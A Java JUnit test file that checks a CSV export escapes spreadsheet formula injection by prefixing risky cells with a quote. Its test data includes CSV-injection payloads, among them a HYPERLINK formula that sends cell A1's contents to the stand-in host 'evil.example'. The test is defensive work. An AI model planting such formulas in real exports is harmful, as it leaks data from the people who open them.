package org.hldprep.board;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.hldprep.board.ProgressViews.Document;
import org.hldprep.board.ProgressViews.Timeline;
import org.hldprep.board.ProgressViews.TimelineEntry;
import org.junit.jupiter.api.Test;

/** The CSV downloads are inert: a spreadsheet evaluates none of their cells (OWASP CSV injection). */
class ProgressExportsTest {

  @Test
  void textThatASpreadsheetWouldEvaluateGetsALeadingQuote() {
    for (String formula : List.of("=HYPERLINK(\"http://evil.example\",\"Open\")", "+1+2", "-1+2", "@SUM(A1)",
        "\tTab", "\rReturn")) {
      assertThat(ProgressExports.inert(formula)).as(formula).isEqualTo("'" + formula);
    }
  }

  @Test
  void numbersAndOrdinaryTextStayAsTheyAre() {
    for (String plain : List.of("-3", "-0.5", "12", "2013-10-03", "phl-officer", "", "Review the summary",
        "a=b", "'=quoted already")) {
      assertThat(ProgressExports.inert(plain)).as(plain).isEqualTo(plain);
    }
  }

  @Test
  void theTimelineCsvWritesEveryCellInert() throws IOException {
    OffsetDateTime now = OffsetDateTime.parse("2013-05-02T10:00:00+02:00");
    Timeline timeline = new Timeline("HLD2013", "PHL", List.of(), List.of(new TimelineEntry(now, null,
        "national-consultation", "PHL", "Task_RecordConsultation", "@step", "userTask",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", List.of("-ro-bangkok"),
        List.of(new Document("summaryLink", "https://docs.example/phl")))));

    String csv = new String(new ProgressExports().timelineCsv(timeline), StandardCharsets.UTF_8);

    CSVRecord row = parse(csv).get(0);
    assertThat(row.get("By")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    assertThat(row.get("Step")).isEqualTo("'@step");
    assertThat(row.get("Held by")).isEqualTo("'-ro-bangkok");
    assertThat(row.get("Started")).isEqualTo(now.toString());
    assertThat(row.get("Documents")).isEqualTo("summaryLink: https://docs.example/phl");
  }

  private static List<CSVRecord> parse(String csv) throws IOException {
    try (CSVParser parser = CSVParser.parse(new StringReader(csv),
        CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
      return parser.getRecords();
    }
  }
}
